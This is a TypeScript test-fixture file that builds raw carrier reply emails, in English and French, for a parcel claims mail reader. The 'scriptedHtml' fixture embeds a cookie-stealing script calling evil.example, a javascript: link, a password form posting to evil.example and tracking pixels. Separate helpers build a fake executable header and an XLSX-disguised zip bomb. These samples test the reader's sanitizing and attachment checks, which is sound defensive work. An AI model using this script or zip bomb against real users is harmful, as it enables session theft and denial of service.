/**
 * Carrier replies as they arrive at a company's inbound claims address: raw RFC 5322 messages
 * (multipart, quoted-printable-free, base64 attachments) written the way carriers' claim desks
 * write them, in English and French. Used by the mail reader's unit tests and by the integration
 * test that sends them over SMTP.
 */
import { strToU8, zipSync } from 'fflate';

export interface MailAttachmentFixture {
  name: string;
  contentType: string;
  content: Uint8Array;
}

export interface MailFixture {
  from: string;
  to: string;
  subject: string;
  text?: string;
  html?: string;
  date?: string;
  messageId?: string;
  attachments?: MailAttachmentFixture[];
}

const base64Lines = (bytes: Uint8Array) =>
  (
    Buffer.from(bytes)
      .toString('base64')
      .match(/.{1,76}/g) ?? []
  ).join('\r\n');

/** A subject with non-ASCII letters, as mail clients write it (RFC 2047). */
const encodedWord = (text: string) =>
  /^[\x20-\x7e]*$/.test(text) ? text : `=?UTF-8?B?${Buffer.from(text).toString('base64')}?=`;

/** The raw message, CRLF line ends. */
export function buildMail(mail: MailFixture): string {
  const boundary = `b-mixed-${Math.random().toString(36).slice(2)}`;
  const alt = `b-alt-${Math.random().toString(36).slice(2)}`;
  const headers = [
    `From: ${mail.from}`,
    `To: ${mail.to}`,
    `Subject: ${encodedWord(mail.subject)}`,
    `Date: ${mail.date ?? new Date().toUTCString()}`,
    `Message-ID: ${mail.messageId ?? `<${Math.random().toString(36).slice(2)}@carrier.example>`}`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${boundary}"`,
  ];
  const textPart = (type: string, body: string) =>
    [
      `Content-Type: ${type}; charset=utf-8`,
      'Content-Transfer-Encoding: base64',
      '',
      base64Lines(Buffer.from(body)),
    ].join('\r\n');
  const bodies: string[] = [];
  if (mail.text !== undefined) bodies.push(textPart('text/plain', mail.text));
  if (mail.html !== undefined) bodies.push(textPart('text/html', mail.html));
  const alternative = [
    `Content-Type: multipart/alternative; boundary="${alt}"`,
    '',
    ...bodies.map((body) => `--${alt}\r\n${body}`),
    `--${alt}--`,
  ].join('\r\n');
  const attachments = (mail.attachments ?? []).map((file) =>
    [
      `Content-Type: ${file.contentType}; name="${file.name}"`,
      `Content-Disposition: attachment; filename="${file.name}"`,
      'Content-Transfer-Encoding: base64',
      '',
      base64Lines(file.content),
    ].join('\r\n'),
  );
  return [
    ...headers,
    '',
    `--${boundary}`,
    alternative,
    ...attachments.map((part) => `--${boundary}\r\n${part}`),
    `--${boundary}--`,
    '',
  ].join('\r\n');
}

/** A small but real PDF (its first bytes are what the type check reads). */
export const pdfBytes = (label: string) =>
  strToU8(
    `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n% ${label}\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  );

/** A Windows program: what no claim document may be, whatever its name says. */
export const exeBytes = () => new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00]);

/** An XLSX-looking zip whose one entry inflates a thousandfold: refused before anything reads it. */
export function zipBombXlsx(): Uint8Array {
  return zipSync(
    {
      '[Content_Types].xml': strToU8('<Types/>'),
      'xl/worksheets/sheet1.xml': new Uint8Array(4 * 1024 * 1024),
    },
    { level: 9 },
  );
}

/** Replies carriers send, keyed by what they say. `to` is filled in by the caller. */
export const CARRIER_REPLIES = {
  upsApproved: (claimNumber: string, tracking: string): Omit<MailFixture, 'to'> => ({
    from: 'UPS Claims <claims-noreply@ups.example>',
    subject: `Your UPS claim ${claimNumber} - Tracking ${tracking}`,
    text: [
      'Dear Customer,',
      '',
      `We are pleased to inform you that your claim ${claimNumber} for shipment ${tracking} has been approved.`,
      'A credit of 125.50 EUR will be issued to your UPS account within 5 business days.',
      '',
      'Kind regards,',
      'UPS Claims Department',
    ].join('\n'),
  }),
  colissimoDenied: (tracking: string): Omit<MailFixture, 'to'> => ({
    from: 'Service Clients Colissimo <serviceclient@colissimo.example>',
    subject: `Votre réclamation concernant le colis ${tracking}`,
    text: [
      'Bonjour Madame, Monsieur,',
      '',
      `Après enquête auprès de nos services, nous ne pouvons pas donner une suite favorable à votre réclamation concernant le colis ${tracking} : le colis a été livré contre signature le 12/11.`,
      '',
      'Nous vous prions d’agréer nos salutations distinguées.',
      'Le Service Clients Colissimo',
    ].join('\n'),
  }),
  chronopostMoreRequested: (claimNumber: string): Omit<MailFixture, 'to'> => ({
    from: 'Chronopost Réclamations <reclamations@chronopost.example>',
    subject: `Dossier n° ${claimNumber} : pièces manquantes`,
    text: [
      'Bonjour,',
      '',
      `Pour poursuivre l’instruction du dossier n° ${claimNumber}, merci de nous faire parvenir la facture d’achat de la marchandise ainsi que des photos de l’emballage.`,
      '',
      'Cordialement,',
      'Chronopost',
    ].join('\n'),
  }),
  dhlCredited: (claimNumber: string): Omit<MailFixture, 'to'> => ({
    from: 'DHL Express Billing <billing@dhl.example>',
    subject: `Credit note for claim ${claimNumber}`,
    text: [
      'Hello,',
      '',
      `A credit note for EUR 89.90 has been issued for claim ${claimNumber}. Please find it attached.`,
      '',
      'Best regards,',
      'DHL Express',
    ].join('\n'),
    attachments: [
      { name: 'credit-note.pdf', contentType: 'application/pdf', content: pdfBytes('credit note') },
    ],
  }),
  fedexRegistered: (tracking: string, claimNumber: string): Omit<MailFixture, 'to'> => ({
    from: 'FedEx Claims <claims@fedex.example>',
    subject: `Claim received for tracking ${tracking}`,
    text: [
      'Thank you for contacting FedEx.',
      `Your claim has been registered. Claim number: ${claimNumber}.`,
      'We will get back to you within 10 business days.',
    ].join('\n'),
  }),
  scriptedHtml: (claimNumber: string): Omit<MailFixture, 'to'> => ({
    from: 'Claims <claims@carrier.example>',
    subject: `Update on claim ${claimNumber}`,
    text: `Your claim ${claimNumber} is under review.`,
    html: [
      '<html><head><style>body{background:url(https://tracker.example/bg.png)}</style>',
      '<script>fetch("https://evil.example/steal?c="+document.cookie)</script></head>',
      `<body onload="alert(1)"><p style="color:red" class="x">Your claim <b>${claimNumber}</b> is under review.</p>`,
      '<img src="https://tracker.example/pixel.gif" alt="logo" width="1" height="1">',
      '<a href="javascript:alert(2)">click</a> <a href="https://carrier.example/claims">portal</a>',
      '<form action="https://evil.example"><input name="password"></form>',
      '<iframe src="https://evil.example"></iframe></body></html>',
    ].join('\n'),
  }),
  quotedThread: (claimNumber: string): Omit<MailFixture, 'to'> => ({
    from: 'UPS Claims <claims-noreply@ups.example>',
    subject: `RE: claim ${claimNumber}`,
    text: [
      'Thank you, we are looking into it.',
      '',
      'On Mon, 16 Nov 2026 at 10:00, Parcel Audit <desk@parcel-audit.example> wrote:',
      '> Could you tell us whether the claim will be approved?',
    ].join('\n'),
  }),
};
